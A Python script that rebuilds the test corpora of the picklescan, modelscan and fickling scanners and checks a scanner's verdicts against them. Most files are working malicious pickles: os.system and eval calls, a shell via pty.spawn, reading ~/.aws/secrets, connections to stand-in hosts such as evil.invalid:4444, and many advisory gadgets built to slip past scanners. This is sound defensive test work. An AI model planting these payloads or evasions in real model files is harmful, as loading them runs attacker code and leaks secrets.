#!/usr/bin/env python3
"""The test corpora of picklescan, modelscan and fickling, made anew, and what ours must say of them.

    corpora.py FOLDER           writes them
    corpora.py check MLOPS      writes them to a temporary folder and scans each
    corpora.py names            says which files stand for what their tests only name

The corpora themselves are binary files of other projects. What is in each is said by their public
tests: which callable with which arguments, in which protocol and container. From those facts the
files are put together here, under the same names. No library whose functions they name is
imported, for pickles hold names. Read for this in November 2026: picklescan 1.0.5
(tests/init_data_files.py, tests/test_scanner.py), modelscan 0.8.8 (tests/test_modelscan.py,
tests/test_utils.py), fickling 0.1.12 (test/test_bypasses.py, test_attack_vectors.py,
test_benign_edge_cases.py).
"""
import collections
import datetime
import decimal
import fractions
import io
import json
import marshal
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import tempfile
import uuid
import zipfile
import zlib

import make_containers as containers
import make_pickles as p

# Opaque: harmless, and yet nobody who reads the file can say so.
MALICIOUS, SAFE, OPAQUE = "malicious", "safe", "opaque"
CORPORA = "picklescan", "picklescan_before", "modelscan", "fickling"
FILES = []  # corpus/name, bytes, one of the above
BY_NAME = set()  # of which the tests say the callables only: their arguments are ours


class Named:
    """Something that is imported by name when the pickle is loaded, and need not be there now."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __call__(self):  # save_reduce() wants what can be called
        raise NotImplementedError


class Call:
    """What a call gives when the pickle is loaded; may be called in its turn."""

    def __init__(self, function, *arguments):
        self.value = function, arguments

    def __call__(self):
        raise NotImplementedError

    def __reduce__(self):
        return self.value


class Stored:
    """A storage of PyTorch: in its pickles, a persistent id."""

    def __init__(self, key, count):
        self.id = ("storage", Named("torch", "FloatStorage"), key, "cpu", count)


class Pickler(pickle._Pickler):
    dispatch = dict(pickle._Pickler.dispatch)

    def save_named(self, value):
        module, name = value.module, value.name
        if self.proto >= 4:
            self.save(module)
            self.save(name)
            self.write(b"\x93")
        elif "." in name:
            owner, last = name.rsplit(".", 1)
            self.save_reduce(Named("builtins", "getattr"), (Named(module, owner), last), obj=value)
            return
        else:
            if self.proto < 3:
                names = pickle._compat_pickle.REVERSE_NAME_MAPPING
                modules = pickle._compat_pickle.REVERSE_IMPORT_MAPPING
                module, name = names.get((module, name), (modules.get(module, module), name))
            self.write(b"c" + module.encode() + b"\n" + name.encode() + b"\n")
        self.memoize(value)

    dispatch[Named] = save_named

    def persistent_id(self, value):
        return value.id if isinstance(value, Stored) else None


def dumps(value, protocol=4):
    out = io.BytesIO()
    Pickler(out, protocol).dump(value)
    return out.getvalue()


def named(path):
    """module:name"""
    return Named(*path.split(":"))


def call(path, *arguments, protocol=4):
    return dumps(Call(named(path), *arguments), protocol)


def add(corpus, name, data, kind=MALICIOUS, by_name=False):
    FILES.append((f"{corpus}/{name}", data, kind))
    if by_name:
        BY_NAME.add(f"{corpus}/{name}")


def zipped(name, data, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def locked(name, body, password):
    """An archive with one member under a password (APPNOTE.TXT 6.1, traditional encryption)."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(old, byte):
        return zlib.crc32(bytes([byte]), old ^ 0xffffffff) ^ 0xffffffff

    def mix(byte):
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xff)) * 134775813 + 1) & 0xffffffff
        keys[2] = crc(keys[2], keys[1] >> 24)

    def encrypted(plain):
        out = bytearray()
        for byte in plain:
            t = (keys[2] | 2) & 0xffff
            out.append(byte ^ ((t * (t ^ 1)) >> 8 & 0xff))
            mix(byte)
        return bytes(out)

    for byte in password:
        mix(byte)
    sealed = encrypted(bytes(11) + bytes([zlib.crc32(body) >> 24]) + body)
    return containers.archive([containers.member(name, body, raw=sealed, flags=1)])


# What the older corpora share.
EVAL = Call(named("builtins:eval"), "print('456')")
FETCH = Call(named("requests.api:get"), "https://github.com")
BDB = Call(named("bdb:Bdb.run"), Call(named("copyreg:_reconstructor"), named("bdb:Bdb"),
                                      named("builtins:object"), None), "import os\nos.system(\"whoami\")")
RESOLVED = Call(named("builtins:__import__"), "os")
# Slaviero, Sour Pickles (BlackHat USA 2011): globals, compile, eval, getattr and apply of Python 2.
SOUR = (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'picklesmashed=1'\nS''\nS'exec'\n"
        b"tRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
        b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.")
# A challenge of ImaginaryCTF: os and system go through the memo; torch and LongStorage are a lure.
MEMO = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.")


def shared(corpus):
    for v in (0, 3, 4):
        add(corpus, f"benign0_v{v}.pkl", pickle.dumps(["a", "b", "c"], v), SAFE)
        add(corpus, f"malicious1_v{v}.pkl", dumps(EVAL, v))
        add(corpus, f"malicious2_v{v}.pkl", call("posix:system", "ls -la", protocol=v))
    add(corpus, "malicious0.pkl", SOUR)
    add(corpus, "malicious3.pkl", call("http.client:HTTPSConnection", "github.com", protocol=0))
    add(corpus, "malicious4.pickle", dumps(FETCH))
    add(corpus, "malicious5.pickle", call("aiohttp.client:ClientSession"))
    add(corpus, "malicious6.pkl", pickle.dumps(["a", "b", "c"]) + dumps(FETCH))
    add(corpus, "malicious7.pkl", call("socket:create_connection", ("github.com", 80)))
    add(corpus, "malicious8.pkl", call("subprocess:run", ["ls", "-l"]))
    add(corpus, "malicious9.pkl", call("sys:exit", 0))
    add(corpus, "malicious11.pkl", MEMO)
    add(corpus, "malicious1.zip", zipped("data.pkl", dumps(EVAL)))
    add(corpus, "bad_pytorch.pt", b"\x89PNG\r\n\x1a\n", OPAQUE)


def state_dict(protocol=2):
    tensor = Call(named("torch._utils:_rebuild_tensor_v2"), Stored("0", 4), 0, (2, 2), (2, 1), False,
                  collections.OrderedDict())
    return dumps(collections.OrderedDict(weight=tensor), protocol)


def torch_legacy(pickled):
    system = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                           "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    return (p.proto(2) + p.MAGIC + p.version + system + pickled + pickle.dumps(["0"], 2) +
            struct.pack("<q4f", 4, 1, 2, 3, 4))


def picklescan_pickles(corpus):
    add(corpus, "malicious10.pkl", b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.")
    add(corpus, "malicious-invalid-bytes.pkl", MEMO + b"\n\n\t\t")
    add(corpus, "broken_model.pkl", b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); "
                                    b"f.write('Malicious'); f.close()tRX.")
    add(corpus, "malicious12.pkl",
        dumps(Call(Call(Call(named("operator:attrgetter"), "system"), RESOLVED), "echo pwned")))
    for letter, v, module in (("a", 0, "pickle"), ("b", 4, "_pickle")):
        add(corpus, f"malicious13{letter}.pkl", call(module + ":loads", b"I12345\n.", protocol=v))
    add(corpus, "malicious14.pkl", call("runpy:_run_code", "print('456')"))
    add(corpus, "malicious15a.pkl", dumps(BDB, 2))
    add(corpus, "malicious15b.pkl", dumps(BDB, 4))
    add(corpus, "malicious16.pkl", call("pip:main", ["install", "some_malicious_package", "--no-input",
                                                     "-q", "--isolated"], protocol=0))
    add(corpus, "malicious17.pkl", call("torch._inductor.codecache:compile_file", "", "",
                                        ["sh", "-c", '$(echo "pwned")']))
    add(corpus, "malicious18.pkl", call("pydoc:pipepager", "", 'echo "pwned"'))
    load = named("torch.serialization:load")
    partial = Call(named("functools:partial"), load)
    partial.value += ((load, ("some_other_model.bin",),
                       {"pickle_file": "config.json", "weights_only": False}, None),)
    add(corpus, "malicious19.pkl", dumps(Call(partial)))
    add(corpus, "malicious20.pkl", call("venv:create", "venv", False, False, True, False, "$(echo pwned)"))
    add(corpus, "malicious21.pkl", call("timeit:timeit", "", "import os; os.system('curl https://x.invalid')"))
    add(corpus, "malicious22.pkl", call("numpy.testing._private.utils:runstring", "import os", {}))
    add(corpus, "malicious23.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.")
    payload = p.proto(4) + b"cos\nsystem\nVecho pwned\n\x85R0"
    add(corpus, "keyerror-exploit.pkl", payload + p.text("os") + b"\x94h\x03h\x00\x93K\x42.")
    add(corpus, "type-confusion-exploit.pkl", payload + b"J\x2a\0\0\0\x94" + p.text("os") +
        b"\x94h\x00h\x01\x93K\x42.")
    add(corpus, "sys_module_override_sploit.pkl", b"ctorch\n_utils\nctorch._utils\n_rebuild_tensor\n" +
        b"}(" + p.text("_rebuild_tensor") + b"I1\nub" + p.text("_rebuild_tensor") + b"NN\x93.",
        by_name=True)
    for name, path, *arguments in (
            ("io_FileIO", "_io:FileIO", "/etc/hosts"),
            ("urllib_request_urlopen", "urllib.request:urlopen", "https://x.invalid"),
            ("logging_FileHandler", "logging:FileHandler", "evil.log"),
            ("types_CodeType", "types:CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 1, b"", b""),
            ("cloudpickle_codeinjection", "cloudpickle.cloudpickle:_make_function",
             Call(named("cloudpickle.cloudpickle:_builtin_type"), "CodeType"),
             Call(named("cloudpickle.cloudpickle:_make_cell"),
                  Call(named("cloudpickle.cloudpickle:_make_empty_cell"))),
             Call(named("cloudpickle.cloudpickle:subimport"), "os"),
             named("cloudpickle.cloudpickle:_function_setstate"))):
        add(corpus, name + ".pkl", call(path, *arguments), by_name=True)


CODE = "__import__('os').system('whoami')"
UNIX = ("asyncio.unix_events:_UnixSubprocessTransport._start", {}, "whoami", True, None, None, None, 0)
# The advisory, what it calls, with what.
ADVISORIES = {
    "4r9r-ch6f-vxmx": ("torch.utils.bottleneck.__main__:run_cprofile", CODE, {}),
    "86cj-95qr-2p4f": ("torch._dynamo.guards:GuardBuilder.get", {}, CODE),
    "f4x7-rfwp-v3xw": ("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", {}, CODE, []),
    "f745-w6jp-hpxx": ("torch.utils.collect_env:run", CODE),
    "jhph-76pp-mggw": ("torch.utils.collect_env:run_and_read_all", named("torch.utils.collect_env:run"), CODE),
    "h3qp-7fh3-f8h4": ("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", b""),
    "vr7h-p6mm-wpmh": ("torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {}),
    "vv6j-3g6g-2pvj": ("torch.utils._config_module:ConfigModule.load_config", {}, b""),
    "5qwp-399c-mjwf": ("trace:Trace.run", {}, CODE),
    "g344-hcph-8vgg": ("trace:Trace.runctx", {}, CODE, {}, {}),
    "x696-vm39-cp64": ("profile:Profile.run", {}, CODE),
    "6vqj-c2q5-j97w": ("profile:Profile.runctx", {}, CODE, {}, {}),
    "f54q-57x4-jg88": ("lib2to3.pgen2.grammar:Grammar.loads", {}, b""),
    "3vg9-h568-4w9m": ("idlelib.debugobj:ObjectTreeItem.SetText", {}, CODE),
    "6w4w-5w54-rjvr": ("idlelib.autocomplete:AutoComplete.get_entity", {}, CODE),
    "7cq8-mj8x-j263": ("idlelib.autocomplete:AutoComplete.fetch_completions", {}, CODE, 1),
    "cj3c-v495-4xqh": ("code:InteractiveInterpreter.runcode", {}, CODE),
    "8r4j-24qv-fmq9": ("idlelib.calltip:Calltip.fetch_tip", {}, CODE),
    "9xph-j2h6-g47v": ("idlelib.calltip:get_entity", CODE),
    "4whj-rm5r-c2v8": ("torch.utils.bottleneck.__main__:run_autograd_prof", CODE, {}),
    "xp4f-hrf8-rxw7": ("ensurepip:_run_pip", CODE),
    "p9w7-82w4-7q8m": ("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, {}, '""+' + CODE),
    "m869-42cg-3xwr": ("idlelib.run:Executive.runcode", {}, CODE),
    "j343-8v2j-ff7w": ("idlelib.pyshell:ModifiedInterpreter.runcommand", {}, CODE),
    "3gf5-cxq9-w223": ("idlelib.pyshell:ModifiedInterpreter.runcode", {}, CODE),
    "fqq6-7vqf-w3fg": ("doctest:debug_script", CODE, True),
    "9w88-8rmg-7g2p": ("cProfile:runctx", CODE, None, None),
    "49gj-c84q-6qm9": ("cProfile:run", CODE),
    "q77w-mwjj-7mqx": UNIX,
    "m273-6v24-x4m4": ("distutils.file_util:write_file", "pwned_config.env", ["malicious content"]),
}
ADVISORIES_BY_NAME = {
    "7wx9-6375-f5wh": ("profile:run", CODE),
    "4675-36f9-wf6r": ("ctypes:CDLL", None),
    "vqmv-47xg-9wpr": ("pty:spawn", "id"),
    "r8g5-cgf2-4m4m": ("numpy.f2py.crackfortran:getlincoef", CODE, {}),
    "vvpj-8cmc-gx39": ("pkgutil:resolve_name", "os:system"),
    "g38g-8gr9-h9xp-uuid": ("uuid:_get_command_stdout", "id"),
    "g38g-8gr9-h9xp-osx-support": ("_osx_support:_read_output", "id"),
    "g38g-8gr9-h9xp-aix-support": ("_aix_support:_read_cmd_output", "id"),
    "g38g-8gr9-h9xp-imaplib": ("imaplib:IMAP4_stream", "id"),
    "g38g-8gr9-h9xp-pyrepl-pager": ("_pyrepl.pager:pipe_pager", "", "id"),
    "g38g-8gr9-h9xp-test": ("test.support.script_helper:assert_python_ok", "-c", "0"),
}


def picklescan():
    corpus = "picklescan"
    shared(corpus)
    picklescan_pickles(corpus)
    for advisory, (path, *arguments) in ADVISORIES.items():
        add(corpus, f"GHSA-{advisory}.pkl", call(path, *arguments))
    add(corpus, "GHSA-jgw4-cr84-mqxg.bin", call(*UNIX))
    for advisory, (path, *arguments) in ADVISORIES_BY_NAME.items():
        add(corpus, f"GHSA-{advisory}.pkl", call(path, *arguments), by_name=True)
    # An object of operator called with a module that is found when the pickle is loaded.
    for advisory, module, kind, found in (
            ("84r2-jw7c-4r5q", "operator", "methodcaller", Call(named("pydoc:locate"), "os")),
            ("955r-x9j8-7rhh", "_operator", "methodcaller", RESOLVED),
            ("46h3-79wf-xr6c", "_operator", "attrgetter", RESOLVED)):
        getter = Call(Named(module, kind), "system", *["id"] * (kind == "methodcaller"))
        add(corpus, f"GHSA-{advisory}.pkl", dumps(Call(getter, found)), by_name=advisory != "84r2-jw7c-4r5q")
    evil = dumps(EVAL)
    add(corpus, "malicious1_wrong_ext.zip", zipped("data.txt", evil))
    add(corpus, "malicious1_central_directory.zip",
        zipped("data.pkl", evil).replace(b"data.pkl", b"datap.kl", 1))
    add(corpus, "malicious1_crc.zip", zipped("data.pkl", evil).replace(b"print('456')", b"print('123')", 1))
    for bits in (0x1, 0x20, 0x40):
        add(corpus, f"malicious1_{bits:#x}.zip",
            containers.archive([containers.member("data.pkl", evil, flags=bits)]))
    add(corpus, "malicious1.7z", containers.seven(evil))
    # The magic number of PyTorch's old format is computed, so that a reader of numbers misses it.
    add(corpus, "pytorch_magic_bypass.pt", call("builtins:eval", "0x1950A86A20F9469CFC6C", protocol=2) +
        p.version + pickle.dumps({"little_endian": True}, 2) + call("posix:system", "id", protocol=2) +
        pickle.dumps([], 2), by_name=True)
    add(corpus, "benign_password_protected.zip",
        locked("data.pkl", pickle.dumps(["a", "b", "c"]), b"password"), OPAQUE)
    add(corpus, "not_a_pickle.bin", b"c\xff\xfe\x91\xa0" + bytes(range(128, 250)), OPAQUE)
    add(corpus, "pytorch_model.bin", torch_legacy(state_dict()), SAFE)
    add(corpus, "new_pytorch_model.bin", torch_new(state_dict()), SAFE)
    npy = p.npy
    integers, objects = struct.pack("<4q", 1, 2, 3, 4), pickled_objects()
    number = npy("{'descr': '<i8', 'fortran_order': False, 'shape': (4,), }", integers)
    thing = npy("{'descr': '|O', 'fortran_order': False, 'shape': (4,), }", objects)
    add(corpus, "object_array.npy", thing, SAFE)
    add(corpus, "int_array.npy", number, SAFE)
    for name, array in (("object", thing), ("int", number)):
        for suffix, method in (("", zipfile.ZIP_STORED), ("_compressed", zipfile.ZIP_DEFLATED)):
            add(corpus, f"{name}_arrays{suffix}.npz", zipped("a.npy", array, method), SAFE)
    add(corpus, "dns_exfiltration.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
        call("ssl:get_server_certificate", ("root_x.dns-logger.invalid", 443), protocol=3)))


def picklescan_before():
    """Files that picklescan's corpus had and has no more; an advisory that it has no file of."""
    corpus = "picklescan_before"
    add(corpus, "importlib_bypass.pkl", call("importlib:import_module", "os"), by_name=True)
    add(corpus, "marshal_bypass.pkl", call("marshal:loads", b"N"), by_name=True)
    add(corpus, "GHSA-9m3x-qqw2-h32h.pkl", by_name=True, data=dumps(Call(Call(
        named("builtins:getattr"), Call(named("builtins:__import__"), "builtins"), "eval"), "1")))


def pickled_objects():
    """An array of four objects as numpy 1 pickles it."""
    array = Call(named("numpy.core.multiarray:_reconstruct"), named("numpy:ndarray"), (0,), b"b")
    kind = Call(named("numpy:dtype"), "O8", False, True)
    kind.value += ((3, "|", None, None, None, -1, -1, 63),)
    array.value += ((1, (4,), kind, False, [1, 2, 3, 4]),)
    return dumps(array, 3)


def torch_new(pickled, name="archive"):
    member = containers.member
    return containers.archive([member(f"{name}/data.pkl", pickled),
                               member(f"{name}/data/0", struct.pack("<4f", 1, 2, 3, 4)),
                               member(f"{name}/version", b"3\n")])


def field(number, value):
    """A field of protobuf's wire format: text, bytes or an integer."""
    value = value.encode() if isinstance(value, str) else value
    if isinstance(value, int):
        return bytes([number << 3, value])
    size, length = b"", len(value)
    while length > 127:
        size, length = size + bytes([length & 127 | 128]), length >> 7
    return bytes([number << 3 | 2]) + size + bytes([length]) + value


def saved_model(*operators):
    nodes = b"".join(field(3, field(1, f"node{i}") + field(2, o)) for i, o in enumerate(operators))
    function = field(1, field(1, field(1, "call")) + nodes)
    return field(1, 1) + field(2, field(1, field(5, "2.15.0")) + field(2, field(2, function)))


def modelscan():
    corpus = "modelscan"
    shared(corpus)
    for v in (0, 3, 4):
        add(corpus, f"benign0_v{v}.dill", pickle.dumps(["a", "b", "c"], v), SAFE)
        add(corpus, f"malicious1_v{v}.dill", dumps(EVAL, v))
    add(corpus, "test.zip", zipped("data.pkl", dumps(EVAL)))
    add(corpus, "malicious10.pkl", b"(S'print(\"Injection running\")'\ni__builtin__\nexec\n.")
    inner = p.proto(5) + b"cos\nsystem\nVecho pwned!!!\n\x85R."
    add(corpus, "malicious12.pkl", p.proto(5) + b"cpickle\nloads\n" + b"B" + struct.pack("<I", len(inner)) +
        inner + b"\x85R0N.")
    add(corpus, "malicious13.pkl", p.proto(5) + b"cbuiltins\neval.__call__\nV__import__(\"os\")\n\x85R.")
    add(corpus, "malicious14.pkl", MEMO + b"\n\n\t\t")
    add(corpus, "malicious15.pkl", dumps(BDB))
    empty = dumps(collections.OrderedDict(), 2)
    injected = dumps(Call(named("posix:system"), "cat ~/.aws/secrets\n"), 2)
    add(corpus, "safe_zip_pytorch.pt", containers.torch_zip(empty), SAFE)
    add(corpus, "safe_old_format_pytorch.pt",
        p.proto(2) + p.MAGIC + p.version + p.system + empty + pickle.dumps([], 2), SAFE)
    add(corpus, "unsafe_zip_pytorch.pt", containers.torch_zip(injected[:-1] + empty[2:]))
    command = dumps(Call(named("builtins:exec"), 'print("Malicious code!")'))
    add(corpus, "unsafe_numpy.npy", command[:-1] + pickled_objects()[2:])
    add(corpus, "safe_numpy.npy", p.npy("{'descr': '<i8', 'fortran_order': False, 'shape': (2, 3), }",
                                        struct.pack("<6q", 1, 2, 3, 4, 5, 6)), SAFE)
    add(corpus, "unsafe", command)
    add(corpus, "saved_model_unsafe/saved_model.pb", saved_model("WriteFile", "MatMul", "ReadFile"))
    add(corpus, "saved_model_safe/saved_model.pb", saved_model("MatMul", "BiasAdd"), SAFE)


def fickling():
    corpus = "fickling"
    code = marshal.dumps(compile("import os\nos.system('id')", "<string>", "exec"))
    vectors = {
        "os_system": ("posix:system", "id"), "os_popen": ("os:popen", "id"),
        "os_execv": ("posix:execv", "/bin/sh", ["/bin/sh", "-c", "id"]),
        "builtins_eval": ("builtins:eval", CODE), "builtins_exec": ("builtins:exec", "import os"),
        "builtins_compile": ("builtins:compile", "import os", "<string>", "exec"),
        "builtins_import": ("builtins:__import__", "os"),
        "builtins_getattr": ("builtins:getattr", named("builtins:object"), "__class__"),
        "socket_create_connection": ("socket:create_connection", ("evil.invalid", 4444)),
        "socket_socket": ("socket:socket",), "runpy_run_path": ("runpy:run_path", "/tmp/malicious.py"),
        "runpy_run_module": ("runpy:run_module", "os"), "cprofile_run": ("cProfile:run", "import os"),
        "code_interactiveinterpreter": ("code:InteractiveInterpreter",),
        "importlib_import_module": ("importlib:import_module", "os"), "marshal_loads": ("marshal:loads", code),
        "ctypes_cdll": ("ctypes:CDLL", "libc.so.6"), "pty_spawn": ("pty:spawn", "/bin/sh"),
        "pydoc_locate": ("pydoc:locate", "os.system"), "sys_exit": ("sys:exit", 0),
        "multiprocessing_util_spawnv_passfds": ("multiprocessing.util:spawnv_passfds", b"/bin/sh",
                                                [b"/bin/sh", b"-c", b"id"], ()),
        **{f"subprocess_{name.lower()}": (f"subprocess:{name}", ["id"])
           for name in ("call", "Popen", "run", "check_output")},
    }
    for name, (path, *arguments) in vectors.items():
        for v in range(6):
            add(corpus, f"{name}_v{v}.pkl", call(path, *arguments, protocol=v))
    add(corpus, "types_functiontype.pkl", dumps(named("types:FunctionType")))
    # The bypasses: a BUILD behind the call, OBJ, a frame that says nothing, results through the memo.
    pty = dumps(Call(named("pty:spawn"), "id"))
    add(corpus, "missing_pty_unsafe_imports_ghsa.pkl", pty[:-1] + p.text("gottem") + b"b.")
    add(corpus, "missing_pty_unsafe_imports_pr.pkl", b"(cpty\nspawn\nS'id'\no.")
    add(corpus, "missing_marshal_and_types.pkl", p.proto(4) + p.frame(b"") +
        p.stack_named("marshal", "loads") + b"\x94h\x00" + p.data(code) + b"\x85R\x94" +
        p.stack_named("types", "FunctionType") + b"\x94h\x02h\x01}\x86R\x94h\x03)R\x94" + p.text("gottem") + b"b.")
    add(corpus, "missing_pydoc.pkl", b"cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\n" +
        p.data(b"calc.exe") + b"K\x01\x86Rp1\n0cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb.")
    for name, path, argument, attribute in (
            ("ctypes", "ctypes:CDLL", ("libc.dylib",), "system"),
            ("importlib", "importlib:import_module", ("os",), "system"),
            ("code", "code:InteractiveInterpreter", (), "runsource")):
        reached = Call(named("builtins:getattr"), Call(named(path), *argument), attribute)
        add(corpus, f"missing_{name}.pkl", dumps(Call(reached, "id"), 5))
    data = {"primitives": [42, 3.14, "hello", True, False, None], "list": [1, 2, 3, "a"], "dict": {"key": "value"},
            "tuple": tuple(range(100)), "nested_list": [[[[[[1, 2, 3]]]]]], "nested_dict": {"a": {"b": {"c": {}}}},
            "large_list": list(range(10000)), "large_dict": {f"key_{i}": i for i in range(1000)},
            "unicode": "Hello \u4e16\u754c \U0001f30d", "empty": [[], {}, ()],
            "words": ["You must exec this command", "import os is dangerous", {"__reduce__": "os", "eval": "exec"},
                      "\nimport os\nos.system('rm -rf /')\n"],
            "ordered_dict": collections.OrderedDict(a=1, b=2), "counter": collections.Counter("abac")}
    things = {"datetime": datetime.datetime(2026, 1, 2), "date": datetime.date(2026, 1, 2),
              "time": datetime.time(12, 30),
              "timedelta": datetime.timedelta(1), "timezone": datetime.timezone.utc, "uuid": uuid.UUID(int=7),
              "decimal": decimal.Decimal("123.456"), "fraction": fractions.Fraction(1, 3),
              "path": pathlib.PurePosixPath("/usr/bin"),
              "dataclass": Call(named("__main__:SimpleDataclass"), "test", 42)}
    for v in range(2, 6):
        for name, value in data.items():
            add(corpus, f"benign_{name}_v{v}.pkl", dumps(value, v), SAFE)
        for name, value in things.items():
            add(corpus, f"benign_{name}_v{v}.pkl", dumps(value, v), OPAQUE)


def fill():
    picklescan()
    picklescan_before()
    modelscan()
    fickling()


def write(folder):
    for name, data, _ in FILES:
        os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
        with open(f"{folder}/{name}", "wb") as out:
            out.write(data)


def verdicts(mlops, folder):
    """The verdict on each file: that of its worst finding."""
    order = ["safe", "unknown", "unreadable", "unsafe"]
    worst = {name: 0 for name, _, _ in FILES}
    found = {name: [] for name in worst}
    for corpus in CORPORA:
        done = subprocess.run([mlops, "--json", "scan", "./" + corpus], cwd=folder, stdout=subprocess.PIPE)
        for finding in json.loads(done.stdout)["findings"]:
            name = os.path.normpath(finding["file"].split("!")[0])
            worst[name] = max(worst[name], order.index(finding["verdict"]))
            found[name].append(f"{finding['rule']}: {finding['message']}")
    return {name: order[at] for name, at in worst.items()}, found


def check(mlops):
    wrong = 0
    with tempfile.TemporaryDirectory() as folder:
        write(folder)
        got, found = verdicts(os.path.abspath(mlops), folder)
    if len({name for name, _, _ in FILES}) != len(FILES):
        sys.exit("two files have one name")
    table = collections.Counter()
    for name, _, kind in FILES:
        right = {MALICIOUS: got[name] == "unsafe", SAFE: got[name] == "safe", OPAQUE: got[name] != "unsafe"}[kind]
        table[name.split("/")[0], kind, right] += 1
        if not right:
            wrong += 1
            print(f"{name}: {kind}, and found {got[name]}", *found[name][:4], sep="\n    ")
    for corpus in CORPORA:
        of = {kind: (table[corpus, kind, True], table[corpus, kind, True] + table[corpus, kind, False])
              for kind in (MALICIOUS, SAFE, OPAQUE)}
        print(f"{corpus}: {of[MALICIOUS][0]} of {of[MALICIOUS][1]} malicious files unsafe, "
              f"{of[SAFE][0]} of {of[SAFE][1]} harmless ones safe; of {of[OPAQUE][1]} others, "
              f"{of[OPAQUE][1] - of[OPAQUE][0]} unsafe")
    return 1 if wrong else 0


fill()

if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "check":
        sys.exit(check(sys.argv[2]))
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    if sys.argv[1] == "names":
        print(*sorted(BY_NAME), sep="\n")
    else:
        write(sys.argv[1])
